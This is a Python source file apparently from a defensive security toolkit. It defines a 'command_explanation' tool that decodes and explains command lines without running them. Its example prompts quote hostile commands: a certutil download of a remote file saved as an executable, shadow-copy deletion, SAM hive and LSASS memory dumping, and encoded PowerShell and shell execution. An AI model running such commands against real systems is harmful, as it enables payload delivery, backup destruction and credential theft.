"""What a command line that the user gives does."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

from vedette.commands.explaining import explain
from vedette.commands.telling.as_json import as_json
from vedette.commands.tools.saying import add_explanation
from vedette.schema import DataTable, Evidence, EvidenceKind, Parameter, Tool, ToolResult, ValueKind
from vedette.toolbox import ToolContext
from vedette.toolbox.arguments import text_of
from vedette.toolbox.saying import FactList

COMMAND = Parameter(
    name="command",
    kind=ValueKind.TEXT,
    description="The command line or script to explain.",
    required=True,
    example="`certutil -decode a.txt a.exe`",
    routed=False,
    max_length=20_000,
)


class CommandExplanation:
    """Decodes and explains a command line; nothing is run."""

    tool = Tool(
        name="command_explanation",
        description="What a given command line or script does: decoded, explained, with its risk and techniques.",
        parameters=(COMMAND,),
        examples=(
            "explain `certutil -urlcache -f http://192.0.2.7/a.txt a.exe`",
            "what does `vssadmin delete shadows /all /quiet` do?",
            "decode this: powershell -enc VwByAGkAdABlAC0ASABvAHMAdAAgAGgAaQA=",
            "Is `reg save HKLM\\SAM sam.hiv` dangerous?",
            "read this command line aloud: `bash -c 'echo aWQ= | base64 -d | sh'`",
            "deobfuscate `cmd /c w^h^o^a^m^i`",
            "explain `whoami /all`",
            "is this command malicious: rundll32 comsvcs.dll, MiniDump 624 l.dmp full",
            'what would `mshta vbscript:Close(Execute("1"))` do',
        ),
        words=("explain", "decode", "deobfuscate", "command", "script", "one-liner", "does", "mean"),
    )

    def run(self, context: ToolContext, arguments: Mapping[str, Any]) -> ToolResult:
        """Return what the command does."""
        command = text_of(arguments, "command") or ""
        told = explain(command)
        facts = FactList()
        quoted = Evidence(kind=EvidenceKind.SPAN, ref="question", quote=command[:400], start=0, end=len(command))
        add_explanation(facts, told, [quoted])
        steps = DataTable(
            columns=("layer", "step"),
            rows=tuple((s.layer, s.text) for s in told.steps[: context.max_rows]),
            title="Step by step",
            cut=max(0, len(told.steps) - context.max_rows),
        )
        return ToolResult(
            facts=facts.done(),
            values={"explanation": as_json(told)},
            tables=(steps,) if len(told.steps) > 1 else (),
            unknown=tuple(f"In the command, {s.reason}." for s in told.stops[:4]),
            next_questions=("Which suspicious commands were run?",),
        )


COMMAND_EXPLANATION = CommandExplanation()
